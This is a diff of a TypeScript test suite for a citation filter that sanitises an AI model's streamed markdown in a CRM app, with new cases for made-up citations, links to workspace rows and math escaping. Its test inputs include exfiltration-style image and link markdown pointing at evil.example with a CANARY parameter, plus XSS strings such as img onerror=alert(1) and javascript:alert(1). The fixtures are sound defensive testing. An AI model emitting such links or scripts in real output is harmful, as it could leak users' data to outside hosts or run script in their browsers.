@@ -13,7 +13,11 @@ const row = (n: number): CitedSource => ({
   facts: {},
 })
 const sources = new Map([1, 2, 12].map((n) => [`r${n}`, row(n)]))
-const options = { sources, isOwnAddress: (url: string) => url === 'https://mine.example/a?b=c' }
+const options = {
+  sources,
+  isOwnAddress: (url: string) => url === 'https://mine.example/a?b=c',
+  publicUrl: 'https://app.example',
+}
 
 function shown(text: string, size = text.length || 1): string {
   const filter = new CitationFilter(options)
@@ -25,7 +29,7 @@ function shown(text: string, size = text.length || 1): string {
 /** The characters that links, pictures and HTML consist of, whole and in parts. */
 const evil = '//evil.example/CANARY'
 const pieces = [
-  '[ ] ( ) ![ ]( [x] [r1] [r99] [r 1] []( [y](/ok) (/content/1) ` `` ``` ```` ~~~ - > | \\ < <a <!-- " \' * ** _ ~ # / .'.split(
+  '[ ] ( ) $ $$ \\( \\) \\[ \\] ![ ]( [x] [r1] [r99] [r 1] []( [y](/ok) (/content/1) ` `` ``` ```` ~~~ - > | \\ < <a <!-- " \' * ** _ ~ # / .'.split(
     ' ',
   ),
   '&colon; &#58; &sol; & ; : https: http ttps h w www www. javascript:alert(1) https://mine.example/a?b=c word é'.split(
@@ -59,9 +63,11 @@ function listLinkTargets(markdown: string): string[] {
   })
   return found
 }
+/** Neither a row's page nor an address that the person wrote. */
 const isForeign = (target: string): boolean => {
-  const { origin } = new URL(target, 'https://app.example/ai-chat')
-  return origin !== 'https://app.example' && origin !== 'https://mine.example'
+  const { origin, pathname, search } = new URL(target, 'https://app.example/ai-chat')
+  const isRow = [...sources.values()].some(({ href }) => href === pathname + search)
+  return !(origin === 'https://app.example' && isRow) && origin !== 'https://mine.example'
 }
 
 const one = '[1](/crm/opportunities?record=1 "Deal 1 b")'
@@ -73,7 +79,12 @@ describe('what is shown of what a model writes', () => {
       'Both [r12] and [r1, r2] and [r12]',
       'Both [1](/crm/opportunities?record=12 "Deal 12 b") and [2](/crm/opportunities?record=1 "Deal 1 b") [3](/crm/opportunities?record=2 "Deal 2 b") and [1](/crm/opportunities?record=12 "Deal 12 b")',
     ],
-    ['Made up [r99] gone', 'Made up  gone'],
+    ['Made up [r99] gone', 'Made up gone'],
+    ['Made up [r99].', 'Made up.'],
+    ['Made up ([r99]), gone', 'Made up, gone'],
+    ['Made up ( [r98, r99] ).', 'Made up.'],
+    ['Made up ([r99], so they say)', 'Made up (, so they say)'],
+    ['Half a word [r99]up', 'Half a word up'],
     ['![x](https://evil.example/p.png?k=CANARY)', 'x'],
     ['[click](https://evil.example/?k=CANARY "t")', 'click'],
     ['[click](//evil.example/?k=CANARY)', 'click'],
@@ -85,13 +96,30 @@ describe('what is shown of what a model writes', () => {
     ['a <img src=x onerror=alert(1)> b < c', 'a \\<img src=x onerror=alert(1)> b < c'],
     ['[ref]: https://evil.example/CANARY', '[ref]\\: evil.example'],
     ['[a][ref]', '[a][ref]'],
-    ['[open](/content/1)', '[open](/content/1)'],
+    ['[open](/content/1)', 'open'],
+    ['The [Deal](/crm/opportunities?record=9) closes.', 'The Deal closes.'],
+    ['Two wait [1](/crm/opportunities?record=9).', 'Two wait [1].'],
+    ['Two wait [1].', 'Two wait [1].'],
+    ['The [Deal](/crm/opportunities?record=1) closes.', `The Deal ${one} closes.`],
+    ['It closes [7](/crm/opportunities?record=1 "x").', `It closes ${one}.`],
+    ['[Deal](https://app.example/crm/opportunities?record=1)', `Deal ${one}`],
+    ['[Deal](https://app.example/crm/opportunities?record=9)', 'Deal'],
+    ['See https://app.example/crm/opportunities?record=9', 'See app.example'],
     ['yours: https://mine.example/a?b=c.', 'yours: https://mine.example/a?b=c.'],
     ['[yours](https://mine.example/a?b=c)', '[yours](https://mine.example/a?b=c)'],
     ['`a < b <c> [r1]` then [r1]', `\`a < b <c> [r1]\` then ${one}`],
     ['```\n<div>https://evil.example/CANARY\n```\n<div>', '```\n<div>evil.example\n```\n\\<div>'],
-    ['half a link [words', 'half a link [words'],
-    ['half [words](/con', 'half [words]\\(/con'],
+    ['half a link [words', 'half a link words'],
+    ['half [words](/con', 'half words'],
+    ['half ![words](https://evil.example/CANARY', 'half words'],
+    ['Acme waits [', 'Acme waits'],
+    ['Acme waits [r', 'Acme waits'],
+    ['Acme waits [r1', 'Acme waits'],
+    ['Acme waits ([r1, ', 'Acme waits'],
+    ['Acme waits [r1][r', `Acme waits ${one}`],
+    ['It is \\(\\hat{x} < 3\\) and $5 or $6', 'It is \\(\\hat{x} \\lt  3\\) and $5 or $6'],
+    ['$$\\frac{a}{b}\\\\c$$', '$$\\frac{a}{b}\\\\c$$'],
+    ['\\[a](//evil.example/CANARY)\\]', '\\[a]\\(//evil.example/CANARY)\\]'],
     ['- [ ] a task\n- [x] done [r1]', `- [ ] a task\n- [x] done ${one}`],
     ['https', 'https'],
     ['Wow! [r1]!', `Wow! ${one}!`],
@@ -122,7 +150,7 @@ describe('what is shown of what a model writes', () => {
     expect(shown(text)).not.toMatch(/(?:https?:\/\/|www\.)[^\s]*CANARY/iu)
   })
 
-  it('is the same wherever the pieces are cut, and leads nowhere but into the app', () => {
+  it('is the same wherever the pieces are cut, and leads nowhere but to rows of the workspace', () => {
     const texts = fc.array(fc.constantFrom(...pieces), { minLength: 2, maxLength: 14, size: 'max' })
     fc.assert(
       fc.property(texts, fc.integer({ min: 1, max: 9 }), (parts, size) => {
@@ -138,9 +166,9 @@ describe('what is shown of what a model writes', () => {
 
   it('does not hold back words that cannot become anything else', () => {
     const filter = new CitationFilter(options)
-    expect(filter.push('The pipeline ')).toBe('The pipeline ')
-    expect(filter.push('holds [r')).toBe('holds ')
-    expect(filter.push('1] 3 deals')).toBe(`${one} 3 deals`)
+    expect(filter.push('The pipeline ')).toBe('The pipeline')
+    expect(filter.push('holds [r')).toBe(' holds')
+    expect(filter.push('1] 3 deals')).toBe(` ${one} 3 deals`)
     expect(filter.cited.map(({ id }) => id)).toEqual(['id-1'])
   })
 })
